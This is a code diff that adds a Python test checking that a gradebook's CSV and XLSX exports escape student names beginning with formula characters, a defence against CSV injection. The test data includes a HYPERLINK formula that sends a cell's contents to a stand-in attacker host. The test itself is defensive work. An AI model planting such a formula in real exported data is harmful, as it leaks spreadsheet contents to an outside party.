@@ -172,6 +172,33 @@ def test_exports_keep_cyrillic(db, course):
     assert reports.distribution_png([50.0, 90.0], "t", "x", "y").startswith(b"\x89PNG")
 
 
+def test_exports_never_hand_a_spreadsheet_a_formula(db, course):
+    """A name typed as a formula (OWASP's CSV injection) is text in both exports: a leading '."""
+    a = release(db, course, "hw1", due=utcnow() - DAY)
+    names = {"aliya": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "timur": "+1+2", "sofia": "@SUM(A1)"}
+    for login, name in names.items():
+        student(db, login).full_name = name
+    next(m for m in course.memberships if m.user.name == "sofia").section = "-8B"
+    graded(db, asg.submit(db, a, student(db, "aliya"), {"hw.ipynb": source()}), {"t0": (2, 2), "t1": (3, 3)})
+    db.flush()
+    gb = gradebook.build(db, course)
+    rows = list(csv.reader(io.StringIO(reports.to_csv(gb, "en").decode("utf-8-sig"))))
+    by_login = {r[0]: r for r in rows[1:]}
+    for login, name in names.items():
+        assert by_login[login][1] == "'" + name
+    assert by_login["sofia"][2] == "'-8B" and by_login["aliya"][3] == "5.0"  # numbers stay numbers
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(reports.to_xlsx(gb, "en"))).active
+    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    for login, name in names.items():
+        assert cells[login][1].value == "'" + name and cells[login][1].data_type == "s"
+    assert cells["aliya"][3].value == 5.0 and cells["aliya"][3].data_type == "n"
+    for text in ("-1", "\tx", "\rx", "plain", "Әлия"):
+        assert reports.safe_cell(text) == (text if text[0] not in "=+-@\t\r" else "'" + text)
+    assert reports.safe_cell(-1.5) == -1.5
+
+
 def test_bench_gradebook_prints_both_measurements(tmp_path):
     import subprocess
     import sys
